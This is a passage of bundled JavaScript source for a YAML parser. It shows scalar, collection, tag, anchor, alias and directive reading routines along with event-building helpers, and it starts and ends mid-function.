        if (!anchor) throwError$1(state, `unidentified alias "${name}"`);
        if (!anchor.isValueFinal) throwError$1(state, `recursive alias "${name}" is not supported for tag ${anchor.tag.tagName} because it uses finalize()`);
        addValue(state, anchor.value, anchor.tag);
        break;
      }
      case EVENT_ID.POP: {
        const frame = state.frames.pop();
        if (frame.kind === "mapping" && frame.hasKey) {
          state.position = frame.keyPosition;
          throwError$1(state, "incomplete mapping pair in event stream");
        }
        if (frame.kind === "document") state.documents.push(frame.value);
        else {
          const value = frame.tag.carrierIsResult ? frame.value : finalizeCollection(state, frame.position, frame.tag, frame.value);
          if (frame.anchor) {
            frame.anchor.value = value;
            frame.anchor.isValueFinal = true;
          }
          addValue(state, value, frame.tag);
        }
        break;
      }
    }
  }
  return state.documents;
}
var NO_RANGE$1 = -1;
var HAS_OWN = Object.prototype.hasOwnProperty;
var CONTEXT_FLOW_IN = 1;
var CONTEXT_FLOW_OUT = 2;
var CONTEXT_BLOCK_IN = 3;
var CONTEXT_BLOCK_OUT = 4;
var PATTERN_NON_PRINTABLE = /[\x00-\x08\x0B\x0C\x0E-\x1F\x7F-\x84\x86-\x9F\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?:[^\uD800-\uDBFF]|^)[\uDC00-\uDFFF]/;
var PATTERN_FLOW_INDICATORS = /[,\[\]{}]/;
var PATTERN_TAG_HANDLE = /^(?:!|!!|![0-9A-Za-z-]+!)$/;
var NS_URI_CHAR = String.raw`(?:%[0-9A-Fa-f]{2}|[0-9A-Za-z\-#;/?:@&=+$,_.!~*'()\[\]])`;
var NS_TAG_CHAR = String.raw`(?:%[0-9A-Fa-f]{2}|[0-9A-Za-z\-#;/?:@&=+$.~*'()_])`;
var PATTERN_TAG_URI = new RegExp(`^(?:${NS_URI_CHAR})*$`);
var PATTERN_TAG_SUFFIX = new RegExp(`^(?:${NS_TAG_CHAR})+$`);
var PATTERN_TAG_PREFIX = new RegExp(`^(?:!(?:${NS_URI_CHAR})*|${NS_TAG_CHAR}(?:${NS_URI_CHAR})*)$`);
var DEFAULT_PARSER_OPTIONS = {
  filename: "",
  maxDepth: 100
};
function addDocumentEvent(state, explicitStart, explicitEnd) {
  state.events.push({
    type: EVENT_ID.DOCUMENT,
    explicitStart,
    explicitEnd,
    directives: state.directives
  });
}
function addSequenceEvent(state, start, anchorStart, anchorEnd, tagStart, tagEnd, style) {
  state.events.push({
    type: EVENT_ID.SEQUENCE,
    start,
    anchorStart,
    anchorEnd,
    tagStart,
    tagEnd,
    style
  });
}
function addMappingEvent(state, start, anchorStart, anchorEnd, tagStart, tagEnd, style) {
  state.events.push({
    type: EVENT_ID.MAPPING,
    start,
    anchorStart,
    anchorEnd,
    tagStart,
    tagEnd,
    style
  });
}
function insertFlowPairMappingEvent(state, snapshot) {
  state.events.splice(snapshot.eventsLength, 0, {
    type: EVENT_ID.MAPPING,
    start: snapshot.position,
    anchorStart: NO_RANGE$1,
    anchorEnd: NO_RANGE$1,
    tagStart: NO_RANGE$1,
    tagEnd: NO_RANGE$1,
    style: COLLECTION_STYLE.FLOW
  });
}
function addScalarEvent(state, valueStart, valueEnd, anchorStart, anchorEnd, tagStart, tagEnd, style, chomping = CHOMPING_MODE.CLIP, indent2 = -1, fast = false) {
  state.events.push({
    type: EVENT_ID.SCALAR,
    valueStart,
    valueEnd,
    anchorStart,
    anchorEnd,
    tagStart,
    tagEnd,
    style,
    chomping,
    indent: indent2,
    fast
  });
}
function addAliasEvent(state, anchorStart, anchorEnd) {
  state.events.push({
    type: EVENT_ID.ALIAS,
    anchorStart,
    anchorEnd
  });
}
function addPopEvent(state) {
  state.events.push({ type: EVENT_ID.POP });
}
function addEmptyScalarEvent(state) {
  addScalarEvent(state, NO_RANGE$1, NO_RANGE$1, NO_RANGE$1, NO_RANGE$1, NO_RANGE$1, NO_RANGE$1, SCALAR_STYLE.PLAIN);
}
function emptyProperties() {
  return {
    anchorStart: NO_RANGE$1,
    anchorEnd: NO_RANGE$1,
    tagStart: NO_RANGE$1,
    tagEnd: NO_RANGE$1
  };
}
function snapshotState(state) {
  return {
    position: state.position,
    line: state.line,
    lineStart: state.lineStart,
    lineIndent: state.lineIndent,
    firstTabInLine: state.firstTabInLine,
    eventsLength: state.events.length
  };
}
function restoreState(state, snapshot) {
  state.position = snapshot.position;
  state.line = snapshot.line;
  state.lineStart = snapshot.lineStart;
  state.lineIndent = snapshot.lineIndent;
  state.firstTabInLine = snapshot.firstTabInLine;
  state.events.length = snapshot.eventsLength;
}
function throwError(state, message2) {
  YAMLException.throwAt(state.input.slice(0, state.length), state.position, message2, state.filename);
}
function isEol(c) {
  return c === 10 || c === 13;
}
function isWhiteSpace(c) {
  return c === 9 || c === 32;
}
function isWsOrEol(c) {
  return isWhiteSpace(c) || isEol(c);
}
function isWsOrEolOrEnd(c) {
  return c === 0 || isWsOrEol(c);
}
function isFlowIndicator(c) {
  return c === 44 || c === 91 || c === 93 || c === 123 || c === 125;
}
function fromDecimalCode(c) {
  return c >= 48 && c <= 57 ? c - 48 : -1;
}
function fromHexCode(c) {
  if (c >= 48 && c <= 57) return c - 48;
  const lc = c | 32;
  if (lc >= 97 && lc <= 102) return lc - 97 + 10;
  return -1;
}
function escapedHexLen(c) {
  if (c === 120) return 2;
  if (c === 117) return 4;
  if (c === 85) return 8;
  return 0;
}
function isSimpleEscape(c) {
  return c === 48 || c === 97 || c === 98 || c === 116 || c === 9 || c === 110 || c === 118 || c === 102 || c === 114 || c === 101 || c === 32 || c === 34 || c === 47 || c === 92 || c === 78 || c === 95 || c === 76 || c === 80;
}
function consumeLineBreak(state) {
  if (state.input.charCodeAt(state.position) === 10) state.position++;
  else {
    state.position++;
    if (state.input.charCodeAt(state.position) === 10) state.position++;
  }
  state.line++;
  state.lineStart = state.position;
  state.lineIndent = 0;
  state.firstTabInLine = -1;
}
function skipSeparationSpace(state, allowComments) {
  let lineBreaks = 0;
  let ch = state.input.charCodeAt(state.position);
  let hasSeparation = state.position === state.lineStart || isWsOrEol(state.input.charCodeAt(state.position - 1));
  while (ch !== 0) {
    while (isWhiteSpace(ch)) {
      hasSeparation = true;
      if (ch === 9 && state.firstTabInLine === -1) state.firstTabInLine = state.position;
      ch = state.input.charCodeAt(++state.position);
    }
    if (allowComments && hasSeparation && ch === 35) do
      ch = state.input.charCodeAt(++state.position);
    while (!isEol(ch) && ch !== 0);
    if (!isEol(ch)) break;
    consumeLineBreak(state);
    lineBreaks++;
    hasSeparation = true;
    ch = state.input.charCodeAt(state.position);
    while (ch === 32) {
      state.lineIndent++;
      ch = state.input.charCodeAt(++state.position);
    }
  }
  return lineBreaks;
}
function testDocumentSeparator(state, position = state.position) {
  const ch = state.input.charCodeAt(position);
  if ((ch === 45 || ch === 46) && ch === state.input.charCodeAt(position + 1) && ch === state.input.charCodeAt(position + 2)) {
    const following = state.input.charCodeAt(position + 3);
    return following === 0 || isWsOrEol(following);
  }
  return false;
}
function skipByteOrderMark(state) {
  if (state.position === state.lineStart && state.input.charCodeAt(state.position) === 65279) {
    state.position++;
    state.lineStart = state.position;
  }
}
function testDocumentBoundary(state) {
  if (state.position !== state.lineStart) return false;
  if (testDocumentSeparator(state)) return true;
  if (state.input.charCodeAt(state.position) !== 65279) return false;
  const snapshot = snapshotState(state);
  skipByteOrderMark(state);
  skipSeparationSpace(state, true);
  const ch = state.input.charCodeAt(state.position);
  const result = state.position === state.lineStart && (ch === 37 || ch === 45 && testDocumentSeparator(state));
  restoreState(state, snapshot);
  return result;
}
function skipUntilLineEnd(state) {
  let ch = state.input.charCodeAt(state.position);
  while (ch !== 0 && !isEol(ch)) ch = state.input.charCodeAt(++state.position);
}
function checkPrintable(state, start, end) {
  const match2 = PATTERN_NON_PRINTABLE.exec(state.input.slice(start, end));
  if (match2 !== null) {
    state.position = start + match2.index + match2[0].length - 1;
    throwError(state, "the stream contains non-printable characters");
  }
}
function readTagProperty(state, props, inFlow) {
  if (state.input.charCodeAt(state.position) !== 33) return false;
  if (props.tagStart !== NO_RANGE$1) throwError(state, "duplication of a tag property");
  const start = state.position;
  let isVerbatim = false;
  let isNamed = false;
  let tagHandle = "!";
  let ch = state.input.charCodeAt(++state.position);
  if (ch === 60) {
    isVerbatim = true;
    ch = state.input.charCodeAt(++state.position);
  } else if (ch === 33) {
    isNamed = true;
    tagHandle = "!!";
    ch = state.input.charCodeAt(++state.position);
  }
  let suffixStart = state.position;
  let tagName;
  if (isVerbatim) {
    while (ch !== 0 && ch !== 62) ch = state.input.charCodeAt(++state.position);
    if (ch !== 62) throwError(state, "unexpected end of the stream within a verbatim tag");
    tagName = state.input.slice(suffixStart, state.position);
    state.position++;
  } else {
    while (ch !== 0 && !isWsOrEol(ch) && !(inFlow && isFlowIndicator(ch))) {
      if (ch === 33) {
        if (!isNamed) {
          tagHandle = state.input.slice(suffixStart - 1, state.position + 1);
          if (!PATTERN_TAG_HANDLE.test(tagHandle)) throwError(state, "named tag handle cannot contain such characters");
          isNamed = true;
          suffixStart = state.position + 1;
        } else throwError(state, "tag suffix cannot contain exclamation marks");
      }
      ch = state.input.charCodeAt(++state.position);
    }
    tagName = state.input.slice(suffixStart, state.position);
    if (PATTERN_FLOW_INDICATORS.test(tagName)) throwError(state, "tag suffix cannot contain flow indicator characters");
  }
  if (tagName && !(isVerbatim ? PATTERN_TAG_URI.test(tagName) : PATTERN_TAG_SUFFIX.test(tagName))) throwError(state, `tag name cannot contain such characters: ${tagName}`);
  if (!isVerbatim && tagHandle !== "!" && tagHandle !== "!!" && !HAS_OWN.call(state.tagHandlers, tagHandle)) throwError(state, `undeclared tag handle "${tagHandle}"`);
  props.tagStart = start;
  props.tagEnd = state.position;
  return true;
}
function readAnchorProperty(state, props) {
  if (state.input.charCodeAt(state.position) !== 38) return false;
  if (props.anchorStart !== NO_RANGE$1) throwError(state, "duplication of an anchor property");
  state.position++;
  const start = state.position;
  while (state.input.charCodeAt(state.position) !== 0 && !isWsOrEol(state.input.charCodeAt(state.position)) && !isFlowIndicator(state.input.charCodeAt(state.position))) state.position++;
  if (state.position === start) throwError(state, "name of an anchor node must contain at least one character");
  props.anchorStart = start;
  props.anchorEnd = state.position;
  return true;
}
function readAlias(state, props) {
  if (state.input.charCodeAt(state.position) !== 42) return false;
  if (props.anchorStart !== NO_RANGE$1 || props.tagStart !== NO_RANGE$1) throwError(state, "alias node should not have any properties");
  state.position++;
  const start = state.position;
  while (state.input.charCodeAt(state.position) !== 0 && !isWsOrEol(state.input.charCodeAt(state.position)) && !isFlowIndicator(state.input.charCodeAt(state.position))) state.position++;
  if (state.position === start) throwError(state, "name of an alias node must contain at least one character");
  addAliasEvent(state, start, state.position);
  return true;
}
function readFlowScalarBreak(state, nodeIndent) {
  skipSeparationSpace(state, false);
  if (state.lineIndent < nodeIndent) throwError(state, "deficient indentation");
}
function readSingleQuotedScalar(state, nodeIndent, props) {
  if (state.input.charCodeAt(state.position) !== 39) return false;
  state.position++;
  const start = state.position;
  let simple = true;
  while (state.input.charCodeAt(state.position) !== 0) {
    const ch = state.input.charCodeAt(state.position);
    if (ch === 39) {
      if (state.input.charCodeAt(state.position + 1) === 39) {
        simple = false;
        state.position += 2;
        continue;
      }
      const end = state.position;
      state.position++;
      addScalarEvent(state, start, end, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, SCALAR_STYLE.SINGLE_QUOTED, CHOMPING_MODE.CLIP, -1, simple);
      return true;
    }
    if (isEol(ch)) {
      simple = false;
      readFlowScalarBreak(state, nodeIndent);
    } else if (state.position === state.lineStart && testDocumentSeparator(state)) throwError(state, "unexpected end of the document within a single quoted scalar");
    else if (ch !== 9 && ch < 32) throwError(state, "expected valid JSON character");
    else state.position++;
  }
  throwError(state, "unexpected end of the stream within a single quoted scalar");
}
function readDoubleQuotedScalar(state, nodeIndent, props) {
  if (state.input.charCodeAt(state.position) !== 34) return false;
  state.position++;
  const start = state.position;
  let simple = true;
  while (state.input.charCodeAt(state.position) !== 0) {
    const ch = state.input.charCodeAt(state.position);
    if (ch === 34) {
      const end = state.position;
      state.position++;
      addScalarEvent(state, start, end, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, SCALAR_STYLE.DOUBLE_QUOTED, CHOMPING_MODE.CLIP, -1, simple);
      return true;
    }
    if (ch === 92) {
      simple = false;
      const escaped = state.input.charCodeAt(++state.position);
      if (isEol(escaped)) readFlowScalarBreak(state, nodeIndent);
      else if (isSimpleEscape(escaped)) state.position++;
      else {
        let hexLength = escapedHexLen(escaped);
        if (hexLength === 0) throwError(state, "unknown escape sequence");
        while (hexLength-- > 0) {
          state.position++;
          if (fromHexCode(state.input.charCodeAt(state.position)) < 0) throwError(state, "expected hexadecimal character");
        }
        state.position++;
      }
    } else if (isEol(ch)) {
      simple = false;
      readFlowScalarBreak(state, nodeIndent);
    } else if (state.position === state.lineStart && testDocumentSeparator(state)) throwError(state, "unexpected end of the document within a double quoted scalar");
    else if (ch !== 9 && ch < 32) throwError(state, "expected valid JSON character");
    else state.position++;
  }
  throwError(state, "unexpected end of the stream within a double quoted scalar");
}
function readBlockScalar(state, parentIndent, props) {
  const ch = state.input.charCodeAt(state.position);
  let chomping = CHOMPING_MODE.CLIP;
  let indent2 = -1;
  let detectedIndent = false;
  if (ch !== 124 && ch !== 62) return false;
  const style = ch === 124 ? SCALAR_STYLE.LITERAL_BLOCK : SCALAR_STYLE.FOLDED_BLOCK;
  state.position++;
  while (state.input.charCodeAt(state.position) !== 0) {
    const current = state.input.charCodeAt(state.position);
    const digit = fromDecimalCode(current);
    if (current === 43 || current === 45) {
      if (chomping !== CHOMPING_MODE.CLIP) throwError(state, "repeat of a chomping mode identifier");
      chomping = current === 43 ? CHOMPING_MODE.KEEP : CHOMPING_MODE.STRIP;
      state.position++;
    } else if (digit >= 0) {
      if (digit === 0) throwError(state, "bad explicit indentation width of a block scalar; it cannot be less than one");
      if (detectedIndent) throwError(state, "repeat of an indentation width identifier");
      indent2 = parentIndent + digit - 1;
      detectedIndent = true;
      state.position++;
    } else break;
  }
  let hadWhitespace = false;
  while (isWhiteSpace(state.input.charCodeAt(state.position))) {
    hadWhitespace = true;
    state.position++;
  }
  if (hadWhitespace && state.input.charCodeAt(state.position) === 35) skipUntilLineEnd(state);
  if (isEol(state.input.charCodeAt(state.position))) consumeLineBreak(state);
  else if (state.input.charCodeAt(state.position) !== 0) throwError(state, "a line break is expected");
  let contentIndent = detectedIndent ? indent2 : -1;
  let maxLeadingIndent = 0;
  const valueStart = state.position;
  let valueEnd = state.position;
  while (state.input.charCodeAt(state.position) !== 0) {
    const linePosition = state.position;
    let column = 0;
    while (state.input.charCodeAt(linePosition + column) === 32) column++;
    const first = state.input.charCodeAt(linePosition + column);
    if (first === 0) {
      if (contentIndent >= 0) {
        if (column > contentIndent) valueEnd = linePosition + column;
      } else if (column > 0) valueEnd = linePosition + column;
      break;
    }
    if (testDocumentBoundary(state)) break;
    if (!detectedIndent && contentIndent === -1 && isEol(first)) maxLeadingIndent = Math.max(maxLeadingIndent, column);
    if (!detectedIndent && contentIndent === -1 && !isEol(first)) {
      if (first === 9 && column < parentIndent) {
        state.position = linePosition + column;
        throwError(state, "tab characters must not be used in indentation");
      }
      if (column >= parentIndent && column < maxLeadingIndent) {
        state.position = linePosition + column;
        throwError(state, "bad indentation of a mapping entry");
      }
    }
    if (contentIndent === -1 && first !== 0 && !isEol(first) && column < parentIndent) {
      state.lineIndent = column;
      state.position = linePosition + column;
      break;
    }
    if (!detectedIndent && first !== 0 && !isEol(first) && contentIndent === -1) contentIndent = column;
    const requiredIndent = contentIndent === -1 ? parentIndent + 1 : contentIndent;
    if (first !== 0 && !isEol(first) && column < requiredIndent) {
      state.lineIndent = column;
      state.position = linePosition + column;
      break;
    }
    skipUntilLineEnd(state);
    valueEnd = state.position;
    if (isEol(state.input.charCodeAt(state.position))) {
      consumeLineBreak(state);
      valueEnd = state.position;
    }
  }
  checkPrintable(state, valueStart, valueEnd);
  addScalarEvent(state, valueStart, valueEnd, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, style, chomping, contentIndent);
  return true;
}
function canStartPlainScalar(state, nodeContext) {
  const ch = state.input.charCodeAt(state.position);
  const inFlow = nodeContext === CONTEXT_FLOW_IN;
  if (ch === 0 || isWsOrEol(ch) || ch === 35 || ch === 38 || ch === 42 || ch === 33 || ch === 124 || ch === 62 || ch === 39 || ch === 34 || ch === 37 || ch === 64 || ch === 96 || isFlowIndicator(ch)) return false;
  if (ch === 63 || ch === 45) {
    const following = state.input.charCodeAt(state.position + 1);
    if (isWsOrEolOrEnd(following) || inFlow && isFlowIndicator(following)) return false;
  }
  return true;
}
function readPlainScalar(state, nodeIndent, nodeContext, props) {
  if (!canStartPlainScalar(state, nodeContext)) return false;
  const start = state.position;
  let end = state.position;
  let ch = state.input.charCodeAt(state.position);
  const inFlow = nodeContext === CONTEXT_FLOW_IN;
  let multiline = false;
  while (ch !== 0) {
    if (testDocumentBoundary(state)) break;
    if (ch === 58) {
      const following = state.input.charCodeAt(state.position + 1);
      if (isWsOrEolOrEnd(following) || inFlow && isFlowIndicator(following)) break;
    } else if (ch === 35) {
      if (isWsOrEol(state.input.charCodeAt(state.position - 1))) break;
    } else if (inFlow && isFlowIndicator(ch)) break;
    else if (isEol(ch)) {
      const savedPosition = state.position;
      const savedLine = state.line;
      const savedLineStart = state.lineStart;
      const savedLineIndent = state.lineIndent;
      skipSeparationSpace(state, false);
      if (state.lineIndent >= nodeIndent) {
        multiline = true;
        ch = state.input.charCodeAt(state.position);
        continue;
      }
      state.position = savedPosition;
      state.line = savedLine;
      state.lineStart = savedLineStart;
      state.lineIndent = savedLineIndent;
      break;
    }
    if (!isWhiteSpace(ch)) end = state.position + 1;
    ch = state.input.charCodeAt(++state.position);
  }
  if (end === start) return false;
  checkPrintable(state, start, end);
  addScalarEvent(state, start, end, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, SCALAR_STYLE.PLAIN, CHOMPING_MODE.CLIP, -1, !multiline);
  return true;
}
function skipFlowSeparationSpace(state, nodeIndent) {
  const startLine = state.line;
  skipSeparationSpace(state, true);
  if (state.line > startLine && state.lineIndent < nodeIndent || state.firstTabInLine !== -1 && state.lineIndent < nodeIndent) throwError(state, "deficient indentation");
}
function readFlowCollection(state, nodeIndent, props) {
  const ch = state.input.charCodeAt(state.position);
  const isMapping = ch === 123;
  const start = state.position;
  let readNext = true;
  if (ch !== 91 && ch !== 123) return false;
  const terminator = isMapping ? 125 : 93;
  if (isMapping) addMappingEvent(state, start, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, COLLECTION_STYLE.FLOW);
  else addSequenceEvent(state, start, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, COLLECTION_STYLE.FLOW);
  state.position++;
  while (state.input.charCodeAt(state.position) !== 0) {
    skipFlowSeparationSpace(state, nodeIndent);
    let ch2 = state.input.charCodeAt(state.position);
    if (ch2 === terminator) {
      state.position++;
      addPopEvent(state);
      return true;
    } else if (!readNext) throwError(state, "missed comma between flow collection entries");
    else if (ch2 === 44) throwError(state, "expected the node content, but found ','");
    let isPair = false;
    let isExplicitPair = false;
    if (ch2 === 63 && isWsOrEol(state.input.charCodeAt(state.position + 1))) {
      isPair = isExplicitPair = true;
      state.position += 1;
      skipFlowSeparationSpace(state, nodeIndent);
    }
    const entryLine = state.line;
    const entryStart = snapshotState(state);
    const keyWasRead = parseNode(state, nodeIndent, CONTEXT_FLOW_IN, false, true);
    skipFlowSeparationSpace(state, nodeIndent);
    ch2 = state.input.charCodeAt(state.position);
    if ((isMapping || isExplicitPair || state.line === entryLine) && ch2 === 58) {
      isPair = true;
      state.position++;
      skipFlowSeparationSpace(state, nodeIndent);
      if (!isMapping) {
        insertFlowPairMappingEvent(state, entryStart);
        if (!keyWasRead) addEmptyScalarEvent(state);
      } else if (!keyWasRead) addEmptyScalarEvent(state);
      if (!parseNode(state, nodeIndent, CONTEXT_FLOW_IN, false, true)) addEmptyScalarEvent(state);
      skipFlowSeparationSpace(state, nodeIndent);
      if (!isMapping) addPopEvent(state);
    } else if (isMapping && isPair) {
      if (!keyWasRead) addEmptyScalarEvent(state);
      addEmptyScalarEvent(state);
    } else if (isMapping) addEmptyScalarEvent(state);
    else if (isPair) {
      insertFlowPairMappingEvent(state, entryStart);
      if (!keyWasRead) addEmptyScalarEvent(state);
      addEmptyScalarEvent(state);
      addPopEvent(state);
    }
    ch2 = state.input.charCodeAt(state.position);
    if (ch2 === 44) {
      readNext = true;
      state.position++;
    } else readNext = false;
  }
  throwError(state, "unexpected end of the stream within a flow collection");
}
function readBlockSequence(state, nodeIndent, props) {
  if (state.firstTabInLine !== -1 || state.input.charCodeAt(state.position) !== 45 || !isWsOrEolOrEnd(state.input.charCodeAt(state.position + 1))) return false;
  addSequenceEvent(state, state.position, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, COLLECTION_STYLE.BLOCK);
  while (state.input.charCodeAt(state.position) === 45 && isWsOrEolOrEnd(state.input.charCodeAt(state.position + 1))) {
    if (state.firstTabInLine !== -1) {
      state.position = state.firstTabInLine;
      throwError(state, "tab characters must not be used in indentation");
    }
    const entryLine = state.line;
    state.position++;
    const hadBreak = skipSeparationSpace(state, true) > 0;
    if (state.firstTabInLine !== -1 && state.input.charCodeAt(state.position) === 45 && isWsOrEolOrEnd(state.input.charCodeAt(state.position + 1))) throwError(state, "bad indentation of a sequence entry");
    if (hadBreak && state.lineIndent <= nodeIndent) addEmptyScalarEvent(state);
    else parseNode(state, nodeIndent, CONTEXT_BLOCK_IN, false, true);
    skipSeparationSpace(state, true);
    if (state.lineIndent < nodeIndent || state.position >= state.length) break;
    if (state.lineIndent > nodeIndent) throwError(state, "bad indentation of a sequence entry");
    if (state.line === entryLine && state.input.charCodeAt(state.position) === 45 && isWsOrEolOrEnd(state.input.charCodeAt(state.position + 1))) throwError(state, "bad indentation of a sequence entry");
  }
  addPopEvent(state);
  return true;
}
function readBlockMapping(state, nodeIndent, flowIndent, props) {
  let atExplicitKey = false;
  let detected = false;
  let mappingOpened = false;
  let pendingExplicitKey = false;
  if (state.firstTabInLine !== -1) return false;
  let ch = state.input.charCodeAt(state.position);
  while (ch !== 0) {
    if (!atExplicitKey && state.firstTabInLine !== -1) {
      state.position = state.firstTabInLine;
      throwError(state, "tab characters must not be used in indentation");
    }
    const following = state.input.charCodeAt(state.position + 1);
    const entryLine = state.line;
    if ((ch === 63 || ch === 58) && isWsOrEolOrEnd(following)) {
      if (!mappingOpened) {
        addMappingEvent(state, state.position, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, COLLECTION_STYLE.BLOCK);
        mappingOpened = true;
      }
      if (ch === 63) {
        if (atExplicitKey) addEmptyScalarEvent(state);
        detected = true;
        atExplicitKey = true;
      } else if (atExplicitKey) atExplicitKey = false;
      else {
        addEmptyScalarEvent(state);
        detected = true;
        atExplicitKey = false;
      }
      state.position += 1;
      pendingExplicitKey = true;
    } else {
      if (atExplicitKey) {
        addEmptyScalarEvent(state);
        atExplicitKey = false;
      }
      const beforeKey = snapshotState(state);
      if (!parseNode(state, flowIndent, CONTEXT_FLOW_OUT, false, true)) break;
      if (state.line === entryLine) {
        ch = state.input.charCodeAt(state.position);
        while (isWhiteSpace(ch)) ch = state.input.charCodeAt(++state.position);
        if (ch === 58) {
          ch = state.input.charCodeAt(++state.position);
          if (!isWsOrEolOrEnd(ch)) throwError(state, "a whitespace character is expected after the key-value separator within a block mapping");
          if (!mappingOpened) {
            state.events.splice(beforeKey.eventsLength, 0, {
              type: EVENT_ID.MAPPING,
              start: beforeKey.position,
              anchorStart: props.anchorStart,
              anchorEnd: props.anchorEnd,
              tagStart: props.tagStart,
              tagEnd: props.tagEnd,
              style: COLLECTION_STYLE.BLOCK
            });
            mappingOpened = true;
          }
          detected = true;
          atExplicitKey = false;
          pendingExplicitKey = false;
        } else if (detected) throwError(state, "expected ':' after a mapping key");
        else {
          if (props.anchorStart !== NO_RANGE$1 || props.tagStart !== NO_RANGE$1) {
            restoreState(state, beforeKey);
            return false;
          }
          return true;
        }
      } else if (detected) throwError(state, "can not read a block mapping entry; a multiline key may not be an implicit key");
      else {
        if (props.anchorStart !== NO_RANGE$1 || props.tagStart !== NO_RANGE$1) {
          restoreState(state, beforeKey);
          return false;
        }
        return true;
      }
    }
    if (parseNode(state, nodeIndent, CONTEXT_BLOCK_OUT, true, pendingExplicitKey)) pendingExplicitKey = false;
    if (!atExplicitKey) {
      if (pendingExplicitKey) {
        addEmptyScalarEvent(state);
        pendingExplicitKey = false;
      }
    }
    skipSeparationSpace(state, true);
    ch = state.input.charCodeAt(state.position);
    if ((state.line === entryLine || state.lineIndent > nodeIndent) && ch !== 0) throwError(state, "bad indentation of a mapping entry");
    else if (state.lineIndent < nodeIndent) break;
  }
  if (!detected) return false;
  if (atExplicitKey) addEmptyScalarEvent(state);
  if (mappingOpened) addPopEvent(state);
  return true;
}
function parseNode(state, parentIndent, nodeContext, allowToSeek, allowCompact, allowPropertyMapping = true) {
  if (state.depth >= state.maxDepth) throwError(state, `nesting exceeded maxDepth (${state.maxDepth})`);
  state.depth++;
  let indentStatus = 1;
  let atNewLine = false;
  let hasContent = false;
  let propertyStart = null;
  const props = emptyProperties();
  let allowBlockScalars = nodeContext === CONTEXT_BLOCK_OUT || nodeContext === CONTEXT_BLOCK_IN;
  let allowBlockCollections = allowBlockScalars;
  const allowBlockStyles = allowBlockScalars;
  if (allowToSeek && skipSeparationSpace(state, true)) {
    atNewLine = true;
    if (state.lineIndent > parentIndent) indentStatus = 1;
    else if (state.lineIndent === parentIndent) indentStatus = 0;
    else indentStatus = -1;
  }
  if (indentStatus === 1) while (true) {
    const ch = state.input.charCodeAt(state.position);
    const propertyState = snapshotState(state);
    if (atNewLine && indentStatus !== 1 && (ch === 33 || ch === 38)) break;
    if (atNewLine && allowBlockStyles && (props.tagStart !== NO_RANGE$1 || props.anchorStart !== NO_RANGE$1) && (ch === 33 || ch === 38)) {
      const fallbackState = snapshotState(state);
      const flowIndent = parentIndent + 1;
      if (readBlockMapping(state, state.position - state.lineStart, flowIndent, props) && state.events[fallbackState.eventsLength]?.type === EVENT_ID.MAPPING) {
        state.depth--;
        return true;
      }
      restoreState(state, fallbackState);
    }
    if (atNewLine && (ch === 33 && props.tagStart !== NO_RANGE$1 || ch === 38 && props.anchorStart !== NO_RANGE$1)) break;
    if (!readTagProperty(state, props, nodeContext === CONTEXT_FLOW_IN) && !readAnchorProperty(state, props)) break;
    if (propertyStart === null) propertyStart = propertyState;
    if (skipSeparationSpace(state, true)) {
      atNewLine = true;
      allowBlockCollections = allowBlockStyles;
      if (state.lineIndent > parentIndent) indentStatus = 1;
      else if (state.lineIndent === parentIndent) indentStatus = 0;
      else indentStatus = -1;
    } else allowBlockCollections = false;
  }
  if (allowBlockCollections) allowBlockCollections = atNewLine || allowCompact;
  if (indentStatus === 1 || nodeContext === CONTEXT_BLOCK_OUT) {
    const flowIndent = nodeContext === CONTEXT_FLOW_IN || nodeContext === CONTEXT_FLOW_OUT ? parentIndent : parentIndent + 1;
    const blockIndent = state.position - state.lineStart;
    if (indentStatus === 1) {
      if (allowBlockCollections && (readBlockSequence(state, blockIndent, props) || readBlockMapping(state, blockIndent, flowIndent, props)) || readFlowCollection(state, flowIndent, props)) hasContent = true;
      else {
        const ch = state.input.charCodeAt(state.position);
        if (propertyStart !== null && allowPropertyMapping && allowBlockStyles && !allowBlockCollections && ch !== 124 && ch !== 62) {
          const fallbackState = snapshotState(state);
          const propertyIndent = propertyStart.position - propertyStart.lineStart;
          restoreState(state, propertyStart);
          if (readBlockMapping(state, propertyIndent, flowIndent, emptyProperties()) && state.events[fallbackState.eventsLength]?.type === EVENT_ID.MAPPING) hasContent = true;
          else restoreState(state, fallbackState);
        }
        if (!hasContent && (allowBlockScalars && readBlockScalar(state, flowIndent, props) || readSingleQuotedScalar(state, flowIndent, props) || readDoubleQuotedScalar(state, flowIndent, props) || readAlias(state, props) || readPlainScalar(state, flowIndent, nodeContext, props))) hasContent = true;
      }
    } else if (indentStatus === 0) hasContent = allowBlockCollections && readBlockSequence(state, blockIndent, props);
  }
  allowBlockScalars = allowBlockScalars && !hasContent;
  if (!hasContent && (props.anchorStart !== NO_RANGE$1 || props.tagStart !== NO_RANGE$1 || allowBlockScalars)) {
    addScalarEvent(state, NO_RANGE$1, NO_RANGE$1, props.anchorStart, props.anchorEnd, props.tagStart, props.tagEnd, SCALAR_STYLE.PLAIN);
    hasContent = true;
  }
  state.depth--;
  return hasContent || props.anchorStart !== NO_RANGE$1 || props.tagStart !== NO_RANGE$1;
}
function readDirective(state) {
  if (state.lineIndent > 0 || state.input.charCodeAt(state.position) !== 37) return false;
  state.position++;
  const nameStart = state.position;
  while (state.input.charCodeAt(state.position) !== 0 && !isWsOrEol(state.input.charCodeAt(state.position))) state.position++;
  const name = state.input.slice(nameStart, state.position);
  const args = [];
  if (name.length === 0) throwError(state, "directive name must not be less than one character in length");
  while (state.input.charCodeAt(state.position) !== 0 && !isEol(state.input.charCodeAt(state.position))) {
    while (isWhiteSpace(state.input.charCodeAt(state.position))) state.position++;
    if (state.input.charCodeAt(state.position) === 35 || isEol(state.input.charCodeAt(state.position)) || state.input.charCodeAt(state.position) === 0) break;
    const start = state.position;
    while (state.input.charCodeAt(state.position) !== 0 && !isWsOrEol(state.input.charCodeAt(state.position))) state.position++;
    args.push(state.input.slice(start, state.position));
  }
  if (isEol(state.input.charCodeAt(state.position))) consumeLineBreak(state);
  if (name === "YAML") {
    if (state.directives.some((directive) => directive.kind === "yaml")) throwError(state, "duplication of %YAML directive");
